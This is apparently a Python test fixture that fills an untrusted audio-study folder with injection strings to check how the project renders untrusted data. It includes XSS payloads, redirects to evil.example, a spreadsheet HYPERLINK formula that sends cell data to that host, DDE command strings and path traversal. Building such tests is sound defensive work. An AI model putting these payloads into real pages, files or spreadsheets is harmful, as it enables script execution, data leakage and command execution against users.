"""An untrusted study folder in which every name, pole, label and prompt contains an attack."""

from dataclasses import replace
from typing import Any

import pandas as pd
from plants import tables as planted

from analysis.study import Study

RUNS = "window.ran = 1"
ATTACKS = (
    f"</script><script>{RUNS}</script>",
    f'"><img src="http://evil.example/x.png" onerror="{RUNS}">',
    f'<a href="javascript:{RUNS}">a calm tune</a>',
    '<a href="https://evil.example/">a slow song</a>',
    r"a $\frac$ tune",
    "a $x_1$ tune for $5",
    '=HYPERLINK("http://evil.example/?"&A1,"a song")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "%{x} {{ 7 * 7 }} ${7 * 7} &amp; <!--",
    f"' onmouseover='{RUNS}",
    "<style>@import url(http://evil.example/)</style><base href='http://evil.example/'>",
    '<meta http-equiv="refresh" content="0; url=http://evil.example/">',
)
"""Prompts."""
POLES = (f'<b onclick="{RUNS}">$fast_', '=slow"><svg onload="window.ran = 1">%{x}')
FOLDERS = (f"javascript:{RUNS}", f'"><img src=x onerror="{RUNS}">', "..%2f..%2fetc", "#top?a=b", "data:text,html")
"""Concepts that are also used as folder names, so they contain no slash."""


def study(concept: str = f"tempo</title><script>{RUNS}</script>", **changes: Any) -> Study:
    """A planted study with such names in every place where a received folder could contain them."""
    found = planted.study()
    poles = dict(zip(found.poles, POLES, strict=True))
    prompts = dict(zip(found.clips["prompt"].unique(), 10 * ATTACKS, strict=False))
    prompts = {old: f"{new} {place}" for place, (old, new) in enumerate(prompts.items())}

    def renamed(table: pd.DataFrame) -> pd.DataFrame:
        names = {name: {"prompt": prompts, "asked": prompts, "pole": poles}.get(name, {}) for name in table.columns}
        return table.assign(**{name: table[name].replace(new) for name, new in names.items() if new})

    meta = replace(found.directions.meta, label=concept, model=ATTACKS[1])
    where: Any = found.where

    def asked(grid: Any) -> Any:
        return replace(
            grid, prompts=tuple((f"{ATTACKS[0]} {pair}", f"{ATTACKS[2]} {pair}") for pair in range(len(grid.prompts)))
        )

    return replace(
        found,
        concept=concept,
        poles=POLES,
        directions=replace(found.directions, meta=meta),
        components=replace(found.components, labels=tuple(poles[label] for label in found.components.labels)),
        response=renamed(found.response),
        outcomes=tuple(replace(one, pole=poles[one.pole]) for one in found.outcomes),
        clips=renamed(found.clips),
        sounds={(name, prompts[prompt], seed): clip for (name, prompt, seed), clip in found.sounds.items()},
        model=ATTACKS[1],
        side_effects=None if found.side_effects is None else renamed(found.side_effects),
        where=replace(where, windows=asked(where.windows), components=asked(where.components)),
        **changes,
    )
